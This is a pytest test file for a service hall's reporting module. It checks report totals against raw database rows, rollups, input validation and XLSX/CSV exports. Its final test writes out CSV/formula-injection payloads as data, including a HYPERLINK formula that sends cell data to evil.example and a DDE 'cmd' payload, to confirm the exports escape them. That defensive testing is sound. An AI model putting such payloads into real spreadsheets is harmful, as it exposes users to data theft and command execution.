"""Report figures equal figures computed independently from the raw rows (SQLite and
PostgreSQL), whether a day comes from its rollup or is summed live."""
from __future__ import annotations

import math
from collections import defaultdict
from datetime import UTC, date, datetime

import pytest
from sqlalchemy import text

from hall.domain import measures as m
from hall.seed.history import generate
from hall.services.context import ManualClock
from hall.services.supervision import reports

MONTH = date(2026, 10, 1)


def floor_s(a, b) -> int:
    return math.floor((b - a).total_seconds())


def raw(ctx, sql: str) -> list:
    with ctx.engine.connect() as conn:
        return conn.execute(text(sql)).all()


def expected_by_counter(ctx, target: int) -> dict[int, dict]:
    """Straight from tickets and ratings with the list-based measures, no rollup code."""
    tickets = raw(ctx, "SELECT counter_id, state, outcome, issued_at, called_at, started_at, "
                       "finished_at, recalls, fee_cents, id FROM tickets "
                       "WHERE day BETWEEN '2026-10-01' AND '2026-10-31'")
    levels = dict(raw(ctx, "SELECT ticket_id, level FROM ratings"))
    by = defaultdict(list)
    for t in tickets:
        if t.counter_id is not None:
            by[t.counter_id].append(t)
    out = {}
    for cid, ts in by.items():
        def as_dt(x):
            return None if x is None else (x if isinstance(x, datetime) else
                                           datetime.fromisoformat(x)).replace(tzinfo=UTC)
        waits = [floor_s(as_dt(t.issued_at), as_dt(t.called_at)) for t in ts if t.called_at]
        served = [floor_s(as_dt(t.started_at), as_dt(t.finished_at))
                  for t in ts if t.finished_at]
        outcomes = [t.outcome for t in ts]
        rated = [levels[t.id] for t in ts if t.id in levels]
        done, accepted = outcomes.count("done"), outcomes.count("accepted")
        out[cid] = {
            "issued": len(ts), "called": len(waits), "served": len(served),
            "wait_p50_s": round(m.percentile(waits, 50), 1),
            "wait_p90_s": round(m.percentile(waits, 90), 1),
            "service_mean_s": round(m.mean(served), 1),
            "service_level": round(sum(w <= target for w in waits) / len(waits), 4),
            "no_show_rate": round(sum(t.state == "no_show" for t in ts) / len(waits), 4),
            "onsite_completion_rate": round(done / (done + accepted), 4),
            "satisfaction_rate": round(sum(lv >= 3 for lv in rated) / len(rated), 4),
            "recalls": sum(t.recalls for t in ts),
            "transfers": sum(t.state == "transferred" for t in ts),
            "fees_cents": sum(t.fee_cents for t in ts),
            "bad_ratings": sum(lv <= 2 for lv in rated),
        }
    return out


@pytest.fixture
def month(ctx, hall):
    totals = generate(ctx.engine, first=MONTH, days=22, per_day=120, seed=7)
    assert totals["tickets"] == 22 * 120
    return totals


def test_month_report_per_window_equals_the_raw_rows(ctx, hall, month):
    ctx.clock = ManualClock(datetime(2026, 11, 23, 2, tzinfo=UTC))
    data = reports.report(ctx, period="month", on="2026-10-15", group="counter")
    expected = expected_by_counter(ctx, data["target_wait_s"])
    assert data["period"] == {"kind": "month", "start": "2026-10-01", "end": "2026-10-31",
                              "label": "2026-10"}
    assert {r["key"] for r in data["rows"]} == set(expected)
    for row in data["rows"]:
        want = expected[row["key"]]
        assert {k: row[k] for k in want} == want, row["name"]
    october = raw(ctx, "SELECT count(*), count(DISTINCT day) FROM tickets "
                       "WHERE day BETWEEN '2026-10-01' AND '2026-10-31'")[0]
    assert data["total"]["issued"] == october[0] < month["tickets"]  # 国庆: 1–8 Oct are off
    # each working day: (3 h + 3.5 h) open per counter, lunch paused 1.5 h
    n_counters, days = len(hall["counters"]), october[1]
    assert data["total"]["open_s"] == pytest.approx(days * 6.5 * 3600 * n_counters)
    assert data["total"]["pauses"] == {"午休": pytest.approx(days * 1.5 * 3600 * n_counters)}
    assert sum(data["charts"]["issued_by_hour"]) == october[0]


def test_cases_and_follow_ups_are_counted_per_service(ctx, hall, month):
    ctx.clock = ManualClock(datetime(2026, 11, 23, 2, tzinfo=UTC))
    data = reports.report(ctx, period="range", on="2026-10-01", end="2026-11-30",
                          group="service")
    received = dict(raw(ctx, "SELECT service_id, count(*) FROM cases GROUP BY service_id"))
    done = raw(ctx, "SELECT service_id, done_on <= due_date FROM cases WHERE state = 'done'")
    concluded = raw(ctx, "SELECT service_id, done_on <= due_date FROM cases "
                         "WHERE state IN ('done', 'returned')")
    # 按时办结率 counts the cases due in the range and still open, past due, as of
    # yesterday (22 Nov: the range is still running)
    open_late = dict(raw(ctx, "SELECT service_id, count(*) FROM cases WHERE due_date "
                              "BETWEEN '2026-10-01' AND '2026-11-22' AND (done_on IS NULL "
                              "OR done_on > '2026-11-22') GROUP BY service_id"))
    assert sum(open_late.values()) > 0
    for row in data["rows"]:
        assert row["cases_received"] == received.get(row["key"], 0)
        mine = [bool(on_time) for sid, on_time in done if sid == row["key"]]
        assert row["cases_done"] == len(mine)
        ended = [bool(on_time) for sid, on_time in concluded if sid == row["key"]]
        late = open_late.get(row["key"], 0)
        assert (row["cases_concluded"], row["cases_open_overdue"]) == (len(ended), late)
        assert row["cases_overdue"] == ended.count(False) + late
        if ended or late:
            assert row["on_time_rate"] == round(sum(ended) / (len(ended) + late), 4)
    closed, opened = raw(ctx, "SELECT sum(CASE WHEN state = 'closed' THEN 1 ELSE 0 END), "
                              "count(*) FROM follow_ups")[0]
    assert data["total"]["followups_opened"] == opened == month["followups"]
    assert data["total"]["followup_rate"] == round(closed / opened, 4)


def test_a_rolled_up_day_reads_the_same_as_the_live_day(ctx, hall, month):
    day = "2026-10-12"
    ctx.clock = ManualClock(datetime(2026, 10, 12, 8, tzinfo=UTC))  # the day is still open
    live = reports.report(ctx, period="day", on=day, group="staff")
    assert raw(ctx, "SELECT count(*) FROM report_days")[0][0] == 0
    ctx.clock = ManualClock(datetime(2026, 11, 23, 2, tzinfo=UTC))
    assert reports.roll_up(ctx, hall["id"], date(2026, 10, 12), date(2026, 10, 12)) == [
        date(2026, 10, 12)]
    assert raw(ctx, "SELECT count(*) FROM report_days")[0][0] == 1
    rolled = reports.report(ctx, period="day", on=day, group="staff")
    assert rolled["rows"] == live["rows"] or _same_but_time(rolled, live)


def _same_but_time(rolled, live) -> bool:
    """Counter time of an open day runs up to 'now'; everything else must be equal."""
    strip = ("open_s", "idle_s", "pauses")
    return [{k: v for k, v in r.items() if k not in strip} for r in rolled["rows"]] == \
        [{k: v for k, v in r.items() if k not in strip} for r in live["rows"]]


def test_unknown_group_and_bad_dates_are_refused_by_field(ctx, hall):
    from hall.domain.errors import DomainError

    with pytest.raises(DomainError) as err:
        reports.report(ctx, group="planet")
    assert err.value.field == "group"
    with pytest.raises(DomainError) as err:
        reports.report(ctx, period="range", on="2026-10-05", end="2026-10-01")
    assert err.value.field == "end"
    with pytest.raises(DomainError) as err:
        reports.report(ctx, on="2026-13-01")
    assert err.value.field == "on"


def test_xlsx_and_csv_hold_the_same_numbers_as_the_report(ctx, hall, month):
    import csv
    import io

    from openpyxl import load_workbook

    from hall.services.supervision import exports

    ctx.clock = ManualClock(datetime(2026, 11, 23, 2, tzinfo=UTC))
    data = reports.report(ctx, period="month", on="2026-10-15", group="counter")
    zh = exports.translator("zh_CN")
    book = load_workbook(io.BytesIO(exports.to_xlsx(data, zh)))
    sheet = book.worksheets[0]
    headers = [c.value for c in sheet[2]]
    assert headers[0] == "窗口" and "满意率" in " ".join(headers)
    first = {h: c.value for h, c in zip(headers, sheet[3], strict=True)}
    row = data["rows"][0]
    assert first["窗口"] == row["name"]
    assert first[zh("Tickets issued")] == row["issued"]
    assert first[zh("Service level")] == row["service_level"]
    assert first[zh("Wait p90 (min)")] == round(row["wait_p90_s"] / 60, 1)
    total = [c.value for c in sheet[sheet.max_row]]
    assert total[0] == zh("Total") and total[1] == data["total"]["issued"]
    by_hour = book.worksheets[1]
    assert sum(r[1].value for r in by_hour.iter_rows(min_row=2)) == data["total"]["issued"]

    en = exports.translator("en")
    rows = list(csv.reader(io.StringIO(exports.to_csv(data, en).lstrip("\ufeff"))))
    assert rows[0][:2] == ["Window", "Tickets issued"]
    line = dict(zip(rows[0], rows[1], strict=True))
    assert int(line["Tickets issued"]) == row["issued"]
    assert float(line["Service level %"]) == round(row["service_level"] * 100, 1)
    assert rows[-1][0] == "Total" and int(rows[-1][1]) == data["total"]["issued"]


def test_exports_neutralise_formulas(ctx, hall):
    """Names someone typed that begin like a formula come out of the XLSX and the CSV as
    text: openpyxl reads a string (not a formula) and the CSV cell starts with '."""
    import csv
    import io

    from openpyxl import load_workbook
    from sqlalchemy import update

    from hall.services.supervision import exports
    from hall.store.models import Hall, Service, Staff
    from tests.integration.conftest import finished_visit

    evil = {"hj": '=HYPERLINK("http://evil.example/?"&A1,"户籍")', "li": "@SUM(1+1)",
            "hall": "+cmd|' /C calc'!A0"}
    with ctx.engine.begin() as conn:
        conn.execute(update(Service).where(Service.code == "hj").values(name=evil["hj"]))
        conn.execute(update(Staff).where(Staff.login == "li").values(name=evil["li"]))
        conn.execute(update(Hall).values(name=evil["hall"]))
        conn.execute(update(Service).where(Service.code == "sfz").values(name="-2+3"))
        conn.execute(update(Service).where(Service.code == "ss").values(name="\t=1+1"))
    ctx.cache.clear()
    finished_visit(ctx, hall)
    finished_visit(ctx, hall, service="sfz")
    finished_visit(ctx, hall, 3, service="ss")
    for group, names in (("service", [evil["hj"], "-2+3", "\t=1+1"]), ("staff", [evil["li"]])):
        data = reports.report(ctx, period="day", group=group)
        assert set(names) <= {row["name"] for row in data["rows"]}
        book = load_workbook(io.BytesIO(exports.to_xlsx(data, exports.translator("en"))))
        sheet = book.worksheets[0]
        assert sheet["A1"].data_type == "s" and sheet["A1"].value.startswith("'+cmd")
        cells = [row[0] for row in sheet.iter_rows(min_row=3)]
        assert all(c.data_type == "s" for c in cells)  # no "f": not one formula
        assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
        xlsx_names = {c.value for c in cells}
        rows = list(csv.reader(io.StringIO(
            exports.to_csv(data, exports.translator("en")).lstrip("\ufeff"))))
        csv_names = {row[0] for row in rows[1:]}
        for name in names:
            assert "'" + name in xlsx_names and name not in xlsx_names
            assert "'" + name in csv_names and name not in csv_names
        assert "Total" in csv_names  # plain text stays as it is
